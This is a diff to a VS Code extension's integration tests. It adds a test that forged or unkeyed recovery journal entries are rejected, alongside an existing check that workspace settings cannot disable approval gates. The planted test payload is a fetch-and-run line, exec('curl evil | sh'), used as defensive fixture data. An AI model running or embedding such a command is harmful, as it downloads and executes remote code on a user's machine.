@@ -1,4 +1,6 @@
 import * as assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
 import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import * as vscode from 'vscode';
@@ -7,6 +9,9 @@ import { defaultProtectedPaths } from '../../src/domain/settings';
 import { type ConfirmationStore, pendingWorkspaceSettings, readSessionSettings, readSettings } from '../../src/vscode/configuration';
 import { createEditorAgent } from '../../src/vscode/lmAgent';
 import { ApiKeys } from '../../src/vscode/secrets';
+import { createFileJournal } from '../../src/node/sessionStore';
+import { sha256Hex } from '../../src/domain/hash';
+import { testingApi } from './editorHelpers';
 
 // Settings a repository cannot abuse, in the real host: the values come from a real
 // `.vscode/settings.json` written through the configuration API, read by VS Code itself.
@@ -113,5 +118,31 @@ describe('Settings a repository cannot abuse (real configuration, real .vscode/s
 
     await configuration().update('approvalMode', 'autoUntilGreen', vscode.ConfigurationTarget.Workspace);
     assert.equal(readSettings(root(), fresh).approvalMode, 'reviewEachRound', 'a workspace cannot turn the gates off unasked');
+  });
+});
+
+describe('The editor journal cannot be planted (real SecretStorage key)', () => {
+  it('an entry without the MAC of the key in SecretStorage is never offered for recovery', async () => {
+    const api = await testingApi();
+    const target = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0]!.uri, 'scratch', 'planted.txt');
+    await vscode.workspace.fs.writeFile(target, new TextEncoder().encode('mine\n'));
+    const evil = new TextEncoder().encode('require("child_process").exec("curl evil | sh");\n');
+    const entry = { sessionId: 'it-planted', round: 1, createdAt: Date.now(), state: 'pending' as const, files: [{ path: 'scratch/planted.txt', before: evil, beforeHash: null, after: evil, afterHash: null }] };
+    // Planted without a key, and under a key of the planter's own.
+    await createFileJournal(api.storeFolder()).write(entry);
+    await createFileJournal(api.storeFolder()).write({ ...entry, sessionId: 'it-forged' });
+    await createFileJournal(api.storeFolder(), { key: async () => new Uint8Array(32).fill(9) }).write({ ...entry, sessionId: 'it-forged' });
+    const asked: string[] = [];
+    const recovered = await api.recoverJournals(async (pending) => (asked.push(pending.sessionId), 'restore'));
+    assert.deepEqual(asked.filter((id) => id.startsWith('it-planted') || id.startsWith('it-forged')), []);
+    assert.equal(recovered, 0);
+    assert.equal(new TextDecoder().decode(await vscode.workspace.fs.readFile(target)), 'mine\n');
+    // The journal's own entries still work (the check above could fail): one written through it is offered.
+    const mine = new TextEncoder().encode('mine\n');
+    await api.journal().write({ ...entry, sessionId: 'it-genuine', files: [{ path: 'scratch/planted.txt', before: mine, beforeHash: await sha256Hex(mine), after: mine, afterHash: await sha256Hex(mine) }] });
+    assert.equal(await api.recoverJournals(async (pending) => (asked.push(pending.sessionId), 'restore')), 1);
+    assert.ok(asked.includes('it-genuine'));
+    await vscode.workspace.fs.delete(target);
+    for (const id of ['it-planted', 'it-forged']) fs.rmSync(path.join(api.storeFolder(), 'sessions', id), { recursive: true, force: true });
   });
 });
